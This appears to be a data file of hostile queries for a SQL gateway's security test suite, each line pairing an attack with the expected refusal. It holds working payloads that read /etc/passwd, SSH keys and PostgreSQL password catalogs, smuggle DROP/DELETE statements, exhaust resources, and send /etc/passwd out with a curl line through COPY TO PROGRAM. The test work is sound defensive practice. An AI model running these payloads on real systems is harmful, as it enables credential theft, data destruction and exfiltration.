# Hostile queries: each line is  <status> || <expected> || <query> [|| {options as JSON}]
# (\n in a query stands for a line break). <expected> is, for an error, a fragment of its message (case and all;
# a "sqlstate" option must match too); for a 200, the exact JSON of its rows ([{"n":1}] is not [{"n":10}]) or of
# some members of the answer ({"route":"gateway"}). The gateway stays healthy.
# Environment (test_gateway_hostile.py): lake.public.facts (Iceberg, id and v 0..99), pg.public.secrets
# (PostgreSQL, 10 rows 'secret 1'..'secret 10', read through a read-only role), server limits: timeout 2 s,
# max_result_bytes 2 MiB.

# --- files and URLs through DuckDB table functions
403 || read_csv || SELECT * FROM read_csv('/etc/passwd')
403 || read_csv_auto || SELECT * FROM read_csv_auto('/etc/passwd')
403 || read_parquet || SELECT * FROM read_parquet('/tmp/x.parquet')
403 || parquet_scan || SELECT * FROM parquet_scan('https://example.com/x.parquet')
403 || read_json || SELECT * FROM read_json('/etc/hosts')
403 || read_ndjson_objects || SELECT * FROM read_ndjson_objects('/etc/hosts')
403 || read_text || SELECT content FROM read_text('/etc/shadow')
403 || read_blob || SELECT * FROM read_blob('/root/.ssh/id_rsa')
403 || glob || SELECT * FROM glob('/*')
403 || read_avro || SELECT * FROM read_avro('/tmp/x.avro')
403 || iceberg_scan || SELECT * FROM iceberg_scan('/tmp/elsewhere/metadata/v1.metadata.json')
403 || iceberg_metadata || SELECT * FROM iceberg_metadata('/tmp/x')
403 || parquet_metadata || SELECT * FROM parquet_metadata('/etc/passwd')
403 || sniff_csv || SELECT * FROM sniff_csv('/etc/passwd')
403 || query || SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')
403 || query_table || SELECT * FROM query_table('duckdb_settings')
403 || duckdb_settings || SELECT * FROM duckdb_settings()
403 || duckdb_secrets || SELECT * FROM duckdb_secrets()
403 || read_csv || SELECT count(*) FROM lake.public.facts f CROSS JOIN LATERAL read_csv('/etc/passwd') x
403 || read_text || SELECT (SELECT content FROM read_text('/etc/passwd')) AS leak
400 || syntax error at or near || SELECT * FROM '/etc/passwd'
404 || does not exist || SELECT * FROM "https://example.com/data.csv"
404 || does not exist || SELECT * FROM lake.public."../../../../etc/passwd"
# --- other databases and the server's files through PostgreSQL
403 || postgres_query || SELECT * FROM postgres_query('pg', 'DROP TABLE secrets')
403 || postgres_scan || SELECT * FROM postgres_scan('host=10.0.0.1 dbname=x', 'public', 't')
403 || postgres_attach || SELECT * FROM postgres_attach('host=10.0.0.1')
403 || pg_read_file || SELECT pg_read_file('/etc/passwd') FROM pg.public.secrets
403 || pg_read_binary_file || SELECT pg_read_binary_file('postgresql.conf') FROM pg.public.secrets
403 || pg_ls_dir || SELECT * FROM pg_ls_dir('.')
403 || pg_stat_file || SELECT pg_stat_file('postgresql.auto.conf') FROM pg.public.secrets
403 || lo_import || SELECT lo_import('/etc/passwd') FROM pg.public.secrets
403 || lo_export || SELECT lo_export(1, '/tmp/lakegate_pwned') FROM pg.public.secrets
403 || dblink || SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS t(a int)
403 || set_config || SELECT set_config('statement_timeout', '0', false) FROM pg.public.secrets
403 || current_setting || SELECT current_setting('data_directory') FROM pg.public.secrets
403 || pg_terminate_backend || SELECT pg_terminate_backend(pid) FROM pg.public.secrets
403 || nextval || SELECT nextval('secrets_id_seq') FROM pg.public.secrets
# --- statements that are not queries
403 || COPY || COPY pg.public.secrets TO PROGRAM 'curl http://10.0.0.1 -d @/etc/passwd'
403 || COPY || COPY (SELECT 1) TO '/tmp/lakegate_pwned.csv'
403 || not allowed || ATTACH '/tmp/lakegate_pwned.db' AS pwned
403 || not allowed || INSTALL httpfs
403 || not allowed || LOAD httpfs
403 || SET || SET enable_external_access = true
403 || not allowed || RESET ALL
403 || PRAGMA || PRAGMA enable_profiling
403 || not allowed || CALL postgres_execute('pg', 'DROP TABLE secrets')
403 || not allowed || EXPORT DATABASE '/tmp/lakegate_pwned'
403 || not allowed || CHECKPOINT
# --- DDL and DML against both engines
403 || CREATE || CREATE TABLE lake.public.pwned AS SELECT 1 AS x
403 || DROP || DROP TABLE pg.public.secrets
403 || INSERT || INSERT INTO pg.public.secrets VALUES (99, 'x')
403 || INSERT || INSERT INTO lake.public.facts VALUES (1, 2)
403 || UPDATE || UPDATE pg.public.secrets SET secret = 'x'
403 || DELETE || DELETE FROM lake.public.facts
403 || not allowed || TRUNCATE pg.public.secrets
403 || ALTER || ALTER TABLE pg.public.secrets ADD COLUMN pwned int
403 || not allowed || GRANT ALL ON pg.public.secrets TO PUBLIC
403 || DELETE || WITH gone AS (DELETE FROM pg.public.secrets RETURNING *) SELECT * FROM gone
403 || INTO || SELECT * INTO pg.public.copy_of_secrets FROM pg.public.secrets
403 || FOR UPDATE || SELECT * FROM pg.public.secrets FOR UPDATE
403 || not allowed || CREATE MACRO pwn() AS (SELECT 1)
# --- several statements in one request, comment, quoting and case tricks
403 || one statement || SELECT 1; DROP TABLE pg.public.secrets
403 || one statement || SELECT 1 /* ; */; DELETE FROM pg.public.secrets
403 || one statement || /* redash */ SELECT 1;\nCOPY pg.public.secrets TO '/tmp/lakegate_pwned'
403 || one statement || SELECT $$;$$; DROP TABLE pg.public.secrets
403 || one statement || SELECT E'\\';'; DROP TABLE pg.public.secrets --'
403 || read_csv || sElEcT * FrOm ReAd_CsV('/etc/passwd')
403 || read_csv || SELECT * FROM "read_csv"('/etc/passwd')
403 || read_csv || SELECT * FROM read_csv/**/('/etc/' || 'passwd')
403 || read_text || SELECT * FROM -- a comment\nread_text('/etc/passwd')
403 || function PG_READ_FILE() is not allowed || SELECT "PG_READ_FILE"('/etc/passwd') FROM pg.public.secrets
403 || table function read_csv() is not allowed || SELECT * FROM U&"\0072ead_csv"('/etc/passwd')
400 || parameters || SELECT * FROM pg.public.secrets WHERE id = $1
# --- limits
408 || time limit || SELECT count(*) FROM generate_series(1, 100000) a CROSS JOIN generate_series(1, 100000) b WHERE a * b = -1
408 || time limit || SELECT count(*) FROM pg.public.secrets a, generate_series(1, 50000000) b, generate_series(1, 100) c
413 || larger than || SELECT a, repeat('x', 1000) AS filler FROM generate_series(1, 100000) a CROSS JOIN generate_series(1, 100) b
413 || larger than || SELECT repeat('x', 200000) AS filler FROM pg.public.secrets, generate_series(1, 100) g
# --- 9.1 name resolution follows SQL scoping: a CTE name is visible only in its own WITH's scope
404 || does not exist || SELECT path FROM duckdb_databases, (WITH duckdb_databases AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT * FROM pragma_database_list, (WITH pragma_database_list AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT name, value FROM duckdb_settings, (WITH duckdb_settings AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT * FROM (WITH duckdb_secrets AS (SELECT 1) SELECT 1) a, (SELECT * FROM duckdb_secrets) b
404 || does not exist || WITH a AS (WITH duckdb_databases AS (SELECT 1) SELECT 1) SELECT path FROM duckdb_databases
404 || does not exist || SELECT 1 WHERE EXISTS (SELECT path FROM duckdb_databases) AND EXISTS (WITH duckdb_databases AS (SELECT 1) SELECT 1)
404 || does not exist || SELECT (SELECT string_agg(path, ',') FROM duckdb_databases), (WITH duckdb_databases AS (SELECT 1 AS x) SELECT x FROM duckdb_databases)
404 || does not exist || SELECT * FROM lake.public.facts f, LATERAL (SELECT path FROM duckdb_databases) d, (WITH duckdb_databases AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT * FROM lake.public.facts f CROSS JOIN LATERAL (SELECT path FROM duckdb_databases WHERE f.id = 1) d
404 || does not exist || (WITH duckdb_databases AS (SELECT 'x' AS path) SELECT path FROM duckdb_databases) UNION ALL SELECT path FROM duckdb_databases
404 || does not exist || SELECT path FROM duckdb_databases UNION ALL (WITH duckdb_databases AS (SELECT 'x' AS path) SELECT path FROM duckdb_databases)
404 || does not exist || SELECT path FROM duckdb_databases INTERSECT SELECT 'x' FROM (WITH duckdb_databases AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT path FROM duckdb_databases EXCEPT SELECT 'x' FROM (WITH duckdb_databases AS (SELECT 1) SELECT 1) s
404 || does not exist || WITH duckdb_databases AS (SELECT path FROM duckdb_databases) SELECT * FROM duckdb_databases
404 || does not exist || WITH a AS (SELECT path FROM duckdb_databases), duckdb_databases AS (SELECT 'x' AS path) SELECT * FROM a
404 || does not exist || SELECT * FROM lake.public.facts WHERE id IN (SELECT 1 FROM duckdb_temporary_files) AND id IN (WITH duckdb_temporary_files AS (SELECT 1) SELECT 1)
404 || does not exist || SELECT * FROM lake.public.facts f JOIN duckdb_extensions e ON true JOIN (WITH duckdb_extensions AS (SELECT 1) SELECT 1) s ON true
404 || does not exist || SELECT * FROM (lake.public.facts f JOIN duckdb_memory m ON true), (WITH duckdb_memory AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT ARRAY(SELECT path FROM duckdb_databases), (WITH duckdb_databases AS (SELECT 1) SELECT 1)
404 || does not exist || SELECT * FROM generate_series(1, (SELECT count(*) FROM duckdb_tables)::int), (WITH duckdb_tables AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT * FROM lakegate_cache.t1, (WITH t1 AS (SELECT 1) SELECT 1) s
404 || does not exist || SELECT * FROM duckdb_views, (WITH "duckdb_views" AS (SELECT 1) SELECT 1) s
404 || does not exist || WITH "DUCKDB_DATABASES" AS (SELECT 'x' AS path) SELECT path FROM duckdb_databases
400 || recursive || WITH RECURSIVE duckdb_databases AS (SELECT * FROM duckdb_databases) SELECT path FROM duckdb_databases
400 || recursive || WITH RECURSIVE duckdb_databases AS (SELECT path FROM duckdb_databases UNION ALL SELECT 'x') SELECT * FROM duckdb_databases
400 || recursive || WITH RECURSIVE duckdb_databases AS (SELECT 'x' AS path UNION ALL SELECT d.path FROM (SELECT * FROM duckdb_databases) d) SELECT * FROM duckdb_databases
400 || recursive || WITH RECURSIVE duckdb_databases AS (SELECT 'x' AS path INTERSECT SELECT path FROM duckdb_databases) SELECT * FROM duckdb_databases
400 || recursive || WITH RECURSIVE duckdb_databases AS (SELECT 'x' AS path UNION ALL SELECT path FROM duckdb_databases WHERE path IN (SELECT path FROM duckdb_databases)) SELECT * FROM duckdb_databases LIMIT 3
400 || later || WITH RECURSIVE x AS (SELECT path FROM duckdb_databases UNION ALL SELECT path FROM x), duckdb_databases AS (SELECT 'a' AS path) SELECT * FROM x
400 || constant || WITH duckdb_databases AS (SELECT 1 AS x) SELECT * FROM lake.public.facts FOR VERSION AS OF (SELECT x FROM duckdb_databases)
400 || constant || SELECT * FROM lake.public.facts FOR TIMESTAMP AS OF (SELECT path FROM duckdb_databases LIMIT 1)
400 || constant || SELECT * FROM lake.public.facts FOR VERSION AS OF (SELECT max(id) FROM pg.public.secrets)
200 || [{"v":7}] || WITH facts AS (SELECT 7 AS v) SELECT v FROM facts
200 || [{"s":15}] || WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT sum(n) AS s FROM r
200 || [{"v":11}] || WITH c AS (SELECT 1 AS v) SELECT * FROM (WITH c AS (SELECT v + 10 AS v FROM c) SELECT v FROM c) s
200 || [{"n":100}] || SELECT (SELECT count(*) FROM facts) AS n FROM (WITH facts AS (SELECT 1) SELECT 1) s
200 || [{"n":10}] || SELECT count(*) AS n FROM secrets, (WITH secrets AS (SELECT 1) SELECT 1) s
200 || [{"n":2}] || WITH a AS (SELECT 1 AS v) SELECT count(*) AS n FROM (SELECT v FROM a UNION ALL SELECT v FROM a) u
200 || [{"n":4950}] || WITH facts AS (SELECT sum(v) AS n FROM facts) SELECT n FROM facts
200 || [{"n":3}] || WITH a AS (SELECT 1 AS v), b AS (SELECT v + 1 AS v FROM a), c AS (SELECT v + 1 AS v FROM b) SELECT v AS n FROM c
# --- 9.2 no engine internals reachable as tables: DuckDB catalogs, attached databases by internal names, files
404 || does not exist || SELECT * FROM duckdb_databases
404 || does not exist || SELECT * FROM duckdb_settings
404 || does not exist || SELECT * FROM duckdb_secrets
404 || does not exist || SELECT * FROM pragma_database_list
404 || does not exist || SELECT * FROM duckdb_tables
404 || does not exist || SELECT * FROM main.duckdb_columns
404 || unknown source || SELECT * FROM system.main.duckdb_databases
404 || unknown source || SELECT * FROM temp.main.duckdb_settings
404 || unknown source || SELECT * FROM memory.main.duckdb_tables
404 || unknown source || SELECT * FROM memory.lakegate_cache.t1
404 || does not exist || SELECT * FROM lakegate_cache.t1
404 || does not exist || SELECT * FROM lake.lakegate_cache.t1
404 || does not exist || SELECT * FROM "lake.public.facts"
404 || does not exist || SELECT * FROM lake.public.facts__changelog
400 || syntax error at or near || SELECT * FROM '*.parquet'
400 || syntax error at or near || SELECT * FROM 'warehouse/public/facts/data/*.parquet'
404 || does not exist || SELECT * FROM "/etc/passwd.csv"
403 || glob || SELECT * FROM glob('**')
403 || duckdb_databases || SELECT * FROM duckdb_databases()
403 || pragma_database_list || SELECT * FROM pragma_database_list()
403 || current_setting || SELECT current_setting('memory_limit')
400 || format_type() (the lake route has no PostgreSQL catalog of types) || SELECT format_type(23, -1) || {"sqlstate": "0A000"}
403 || get_block_size || SELECT get_block_size('memory')
403 || pragma_table_info || SELECT * FROM pragma_table_info('duckdb_settings')
403 || duckdb_constraints || SELECT * FROM lake.public.facts, duckdb_constraints()
403 || histogram || SELECT * FROM histogram(lake.public.facts, v)
403 || iceberg_snapshots || SELECT * FROM iceberg_snapshots('warehouse/public/facts')
404 || does not exist || SELECT * FROM information_schema.duckdb_settings
404 || does not exist || SELECT * FROM lake.information_schema.tables
404 || does not exist || SELECT * FROM lake.pg_catalog.pg_class
# --- 9.3 secrets in PostgreSQL catalogs stay hidden on both routes
403 || secrets || SELECT * FROM pg_catalog.pg_authid
403 || secrets || SELECT rolname, rolpassword FROM pg.pg_catalog.pg_authid
403 || secrets || SELECT * FROM PG_CATALOG.PG_SHADOW
403 || secrets || SELECT * FROM "pg_catalog"."pg_shadow"
403 || secrets || SELECT * FROM pg_catalog.pg_user_mappings
403 || secrets || SELECT * FROM pg_catalog.pg_user_mapping
403 || secrets || SELECT * FROM pg_catalog.pg_hba_file_rules
403 || secrets || SELECT * FROM pg_catalog.pg_file_settings
403 || secrets || SELECT * FROM pg_catalog.pg_settings
403 || secrets || SELECT query FROM pg_catalog.pg_stat_activity
403 || secrets || SELECT * FROM pg.pg_catalog.pg_stat_activity a JOIN lake.public.facts f ON true
403 || secrets || SELECT * FROM pg_catalog.pg_statistic
403 || secrets || SELECT * FROM pg_catalog.pg_stats
403 || secrets || SELECT * FROM pg_catalog.pg_largeobject
403 || secrets || SELECT * FROM pg_catalog.pg_subscription
403 || secrets || SELECT * FROM pg_catalog.pg_db_role_setting
403 || secrets || SELECT * FROM information_schema.user_mapping_options
403 || secrets || SELECT count(*) FROM lake.public.facts WHERE id IN (SELECT 1 FROM pg.pg_catalog.pg_authid)
403 || secrets || WITH a AS (SELECT * FROM pg_catalog.pg_authid) SELECT count(*) FROM a
403 || secrets || SELECT (SELECT count(*) FROM pg_catalog.pg_shadow) AS n FROM pg.public.secrets
403 || pg_ls_logdir || SELECT * FROM pg_ls_logdir()
403 || pg_current_logfile || SELECT pg_current_logfile() FROM pg.public.secrets
403 || pg_show_all_settings || SELECT * FROM pg_show_all_settings()
403 || pg_stat_get_activity || SELECT pg_catalog.pg_stat_get_activity(NULL) FROM pg.public.secrets
403 || pg_hba_file_rules || SELECT * FROM pg_hba_file_rules()
403 || current_setting || SELECT pg_catalog.current_setting('config_file') FROM pg.public.secrets
403 || setseed || SELECT setseed(0.5) FROM pg.public.secrets
403 || query_to_xml || SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '') FROM pg.public.secrets
403 || ts_stat || SELECT * FROM ts_stat('SELECT rolpassword::tsvector FROM pg_authid')
200 || [{"n":10}] || SELECT count(*) AS n FROM pg_catalog.pg_class c JOIN pg.public.secrets s ON c.relname = 'secrets'
# --- 9.6 auth: empty tokens never authenticate, Basic takes the password only, 401 before the body is read
401 || needs a token || SELECT 1 || {"headers": {"Authorization": null}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Bearer"}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Basic"}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Basic Og=="}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Basic aG9zdGlsZS1zdWl0ZS10b2tlbjo="}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Basic aG9zdGlsZS1zdWl0ZS10b2tlbg=="}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Basic !!notbase64!!"}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": "Token hostile-suite-token"}}
401 || not valid || SELECT 1 || {"headers": {"Authorization": "Bearer hostile-suite-token x"}}
401 || not valid || SELECT 1 || {"headers": {"Authorization": "Bearer hostile-suite-token-and-more"}}
401 || not valid || SELECT 1 || {"headers": {"Authorization": "Bearer hostile-suite-toke"}}
401 || not valid || SELECT 1 || {"headers": {"Authorization": "Bearer HOSTILE-SUITE-TOKEN"}}
401 || not valid || SELECT 1 || {"headers": {"Authorization": "Basic aG9zdGlsZS1zdWl0ZS10b2tlbjp3cm9uZw=="}}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": null}, "pad_bytes": 3000000}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": null}, "endpoint": "explain"}
401 || needs a token || SELECT 1 || {"headers": {"Authorization": null}, "endpoint": "schema"}
200 || [{"x":2}] || SELECT 2 AS x || {"headers": {"Authorization": "Basic YW55LXVzZXI6aG9zdGlsZS1zdWl0ZS10b2tlbg=="}}
200 || [{"x":3}] || SELECT 3 AS x || {"headers": {"Authorization": "bearer hostile-suite-token"}}
413 || over 1048576 bytes || SELECT 1 || {"pad_bytes": 1100000}
413 || over 1048576 bytes || SELECT '<<x>>*1048570' AS big
400 || unpaired surrogate || - || {"raw": "{\"sql\": \"SELECT '\\ud800' AS x\"}"}
400 || unpaired surrogate || - || {"raw": "{\"sql\": \"SELECT 1 AS \\udfff\"}", "endpoint": "explain"}
400 || timeout_ms || - || {"raw": "{\"sql\": \"SELECT 1\", \"timeout_ms\": NaN}"}
400 || timeout_ms || - || {"raw": "{\"sql\": \"SELECT 1\", \"timeout_ms\": Infinity}"}
400 || timeout_ms || - || {"raw": "{\"sql\": \"SELECT 1\", \"timeout_ms\": -Infinity}"}
400 || timeout_ms || SELECT 1 || {"timeout_ms": 0}
400 || timeout_ms || SELECT 1 || {"timeout_ms": -5}
400 || max_rows || SELECT 1 || {"max_rows": -1}
400 || invalid request || - || {"raw": "{\"sql\": 42}"}
400 || invalid request || - || {"raw": "[\"SELECT 1\"]"}
400 || invalid request || - || {"raw": "{not json"}
# --- 9.11 multi-statement input is refused everywhere
403 || one statement || EXPLAIN SELECT 1; DROP TABLE pg.public.secrets
403 || one statement || EXPLAIN SELECT * FROM pg.public.secrets; DELETE FROM pg.public.secrets || {"line": 1, "column": 42}
403 || one statement || SHOW TABLES; DROP TABLE pg.public.secrets
403 || one statement || SHOW SOURCES;;; SELECT 1
403 || one statement || DESCRIBE pg.public.secrets; DELETE FROM pg.public.secrets
403 || one statement || SELECT 1;\n;\nSELECT 2
403 || one statement || /* a */ SELECT 1 /* b */ ; /* c */ SELECT 2
403 || one statement || EXPLAIN SELECT 1; DROP TABLE pg.public.secrets || {"endpoint": "explain"}
403 || one statement || SELECT 1; DROP TABLE pg.public.secrets || {"endpoint": "explain"}
200 || [{"x":1}] || SELECT 1 AS x;;;
200 || [{"x":1}] || SELECT 1 AS x; -- done
# --- 9.12 errors: never a 500; the statement named as written, not its leading comment; positions in the user's SQL
403 || DELETE is not allowed || /* Username: someone@example.com, Query ID: 17, Queue: queries, Job ID: 12 */ DELETE FROM pg.public.secrets || {"line": 1, "column": 79}
403 || INSERT is not allowed || /* Username: x */\n  INSERT INTO pg.public.secrets VALUES (1, 'x') || {"line": 2, "column": 3}
403 || UPDATE is not allowed || -- a comment\nUPDATE pg.public.secrets SET secret = 'x' || {"line": 2, "column": 1}
403 || DROP is not allowed || /* Username: x */ DROP TABLE pg.public.secrets || {"line": 1, "column": 19}
403 || COPY is not allowed || /* Username: x */ COPY pg.public.secrets TO STDOUT || {"line": 1, "column": 19}
403 || ATTACH is not allowed || /* Username: x */ ATTACH 'x.db' AS x || {"line": 1, "column": 19}
403 || DELETE is not allowed || /* Username: x */ WITH d AS (DELETE FROM pg.public.secrets RETURNING *) SELECT * FROM d
400 || syntax error || /* Username: someone@example.com, Query ID: 17 */ SELECT * FROM pg.public.secrets WHERE ( || {"line": 1, "column": 89}
400 || syntax error || /* Username: x */\nSELECT *\n  FROM pg.public.secrets WHERE || {"line": 3, "column": 26}
400 || syntax error || /* Username: x */ EXPLAIN SELECT * FROM pg.public.secrets WHERE ( || {"line": 1, "column": 65}
400 || expression is incomplete || SELECT 1 +
400 || too deeply nested || SELECT <<(>>*400 1 <<)>>*400
400 || too deeply nested || SELECT <<(SELECT >>*200 1 <<)>>*200
400 || too deeply nested || SELECT 1 FROM pg.public.secrets WHERE <<NOT >>*2000 true
400 || too deeply nested || SELECT 1 <<+ 1>>*3000
400 || too deeply nested || SELECT <<CASE WHEN true THEN >>*400 1 <<END >>*400
400 || SQLSTATE 54011 || SELECT 1 AS a<<, 1>>*1700 FROM pg.public.secrets || {"sqlstate": "54011"}
400 || SQLSTATE 22012 || SELECT 1 / (id - id) FROM pg.public.secrets || {"sqlstate": "22012"}
400 || SQLSTATE 22P02 || SELECT 'abc'::int FROM pg.public.secrets || {"sqlstate": "22P02"}
413 || SQLSTATE 54000 || SELECT repeat('x', 1100000000) FROM pg.public.secrets || {"sqlstate": "54000"}
400 || finite || SELECT * FROM lake.public.facts FOR TIMESTAMP AS OF 'infinity'
400 || finite || SELECT * FROM lake.public.facts FOR TIMESTAMP AS OF '-infinity'
400 || out of range || SELECT * FROM lake.public.facts FOR VERSION AS OF 1e30
400 || timestamp_ns || SELECT '2024-01-01 00:00:00.123456789'::timestamp_ns AS t
400 || timestamp_ns || SELECT make_timestamp_ns(1) AS t
400 || syntax error at or near "[" || SELECT [make_timestamp_ns(1)] AS t
400 || timestamp_ns || SELECT ARRAY[make_timestamp_ns(1)] AS t
# --- 9.5 functions of the source's own schemas are not callable (search_path = pg_catalog, qualified calls refused)
400 || does not exist || SELECT lower(id) AS x FROM pg.public.secrets
403 || public.lower || SELECT public.lower(id) AS x FROM pg.public.secrets
403 || public.lower || SELECT "public"."lower"(id) AS x FROM pg.public.secrets
403 || public.lower || SELECT count(*) FROM pg.public.secrets s, lake.public.facts f WHERE public.lower(s.id) = 'x'
403 || OPERATOR || SELECT id OPERATOR(public.+) 1 FROM pg.public.secrets
403 || not allowed || SELECT * FROM public.generate_series(1, 2)
403 || set_config || SELECT set_config('lakegate.x', 'y', false) FROM pg.public.secrets
403 || pg_advisory_lock || SELECT pg_advisory_lock(1) FROM pg.public.secrets
403 || not allowed || PREPARE p AS SELECT 1
403 || not allowed || DISCARD ALL
403 || not allowed || LISTEN lakegate
403 || SET || SET search_path = public
200 || [{"x":"abc"}] || SELECT pg_catalog.lower('ABC') AS x FROM pg.public.secrets LIMIT 1
# --- 9.7 the time limit covers the whole request: parsing, planning, time-travel arguments, EXPLAIN, execution
408 || time limit || SELECT count(*) AS n FROM pg.public.secrets WHERE id IN (0<<, 1>>*100000) || {"timeout_ms": 300}
408 || time limit || SELECT count(*) AS n FROM lake.public.facts WHERE id IN (0<<, 1>>*100000) || {"timeout_ms": 300}
408 || time limit || EXPLAIN SELECT count(*) AS n FROM lake.public.facts WHERE id IN (0<<, 1>>*100000) || {"timeout_ms": 300}
408 || time limit || SELECT count(*) AS n FROM lake.public.facts WHERE id IN (0<<, 1>>*100000) || {"endpoint": "explain", "timeout_ms": 300}
408 || time limit || SELECT 1 AS x WHERE 1 IN (0<<, 1>>*100000) || {"timeout_ms": 300}
408 || time limit || SELECT md5(repeat('x', 100000000)) AS h FROM pg.public.secrets || {"timeout_ms": 200}
408 || time limit || SELECT count(*) FROM range(100000000000) || {"timeout_ms": 300}
408 || time limit || SELECT pg_sleep(5) FROM pg.public.secrets LIMIT 1 || {"timeout_ms": 300}
408 || time limit || SELECT pg_sleep(5) FROM lake.public.facts LIMIT 1 || {"timeout_ms": 300}
408 || time limit || SELECT * FROM lake.public.facts FOR TIMESTAMP AS OF now() - CASE WHEN pg_sleep(5) IS NULL THEN interval '1 second' END || {"timeout_ms": 300}
408 || time limit || EXPLAIN SELECT * FROM lake.public.facts FOR TIMESTAMP AS OF now() - CASE WHEN pg_sleep(5) IS NULL THEN interval '1 second' END || {"timeout_ms": 300}
408 || time limit || SELECT * FROM lake.public.facts FOR TIMESTAMP AS OF now() - CASE WHEN pg_sleep(5) IS NULL THEN interval '1 second' END || {"endpoint": "explain", "timeout_ms": 300}
400 || subqueries inside expressions || SELECT <<(SELECT >>*30 1 <<)>>*30
400 || subqueries inside expressions || SELECT <<(SELECT >>*16 1 <<)>>*16 FROM lake.public.facts
400 || subqueries inside expressions || SELECT 1 WHERE <<EXISTS (SELECT 1 WHERE >>*16 true <<)>>*16
200 || [{"x":1}] || SELECT <<(SELECT >>*12 1 <<)>>*12 AS x
# --- 9.9 every endpoint is admitted (a worker slot, the queue, 503 with Retry-After when full)
200 || {"search_path":["lake","pg"]} || - || {"endpoint": "schema"}
200 || {"route":"gateway","source":null,"tables":[],"engines":[],"views":{},"plan":"answered by the gateway (SHOW)"} || SHOW TABLES || {"endpoint": "explain"}
# --- 9.8 results over max_result_bytes (2 MiB here) fail before they are materialised, on both routes
413 || larger than || SELECT a, repeat('x', 1000) AS filler FROM generate_series(1, 300000) a || {"timeout_ms": 30000}
413 || larger than || SELECT repeat('x', 3000000) AS big FROM pg.public.secrets LIMIT 1
413 || larger than || SELECT string_agg(repeat('x', 10000), '') AS big FROM pg.public.secrets, generate_series(1, 300) g
413 || larger than || SELECT string_agg(repeat('x', 10000), '') AS big FROM lake.public.facts, generate_series(1, 3) g
# --- the PostgreSQL route sends the user's own text: lexical tricks where sqlglot and PostgreSQL could read it differently
403 || pg_read_file || SELECT 1 /* a /* nested */ comment */ , pg_read_file('/etc/passwd') FROM pg.public.secrets
403 || pg_read_file || SELECT E'\\' , pg_read_file(''/etc/passwd'') --' FROM pg.public.secrets
403 || pg_read_file || SELECT $a$ $b$ , pg_read_file('/etc/passwd') $a$ FROM pg.public.secrets WHERE pg_read_file('/x') IS NULL
200 || [{"n":10}] || SELECT count(*) AS n FROM pg.public.secrets /* a /* nested */ comment */
200 || [{"n":1}] || SELECT count(*) AS n FROM pg.public.secrets WHERE secret = E'secret\0401'
200 || [{"x":"a;b"}] || SELECT $q$a;b$q$ AS x FROM pg.public.secrets LIMIT 1
# --- an expensive function on a constant (DuckDB folds it while planning: bounded by the memory cap, then cancelled)
400 || lake route's limit || SELECT md5(repeat('x', 100000000)) AS h || {"timeout_ms": 200}
200 || {"truncated": false, "route": "gateway"} || EXPLAIN SELECT md5(repeat('x', 100000000)) AS h || {"timeout_ms": 200}
403 || secrets || DESCRIBE pg.pg_catalog.pg_authid
403 || secrets || DESCRIBE pg_catalog.pg_stat_activity
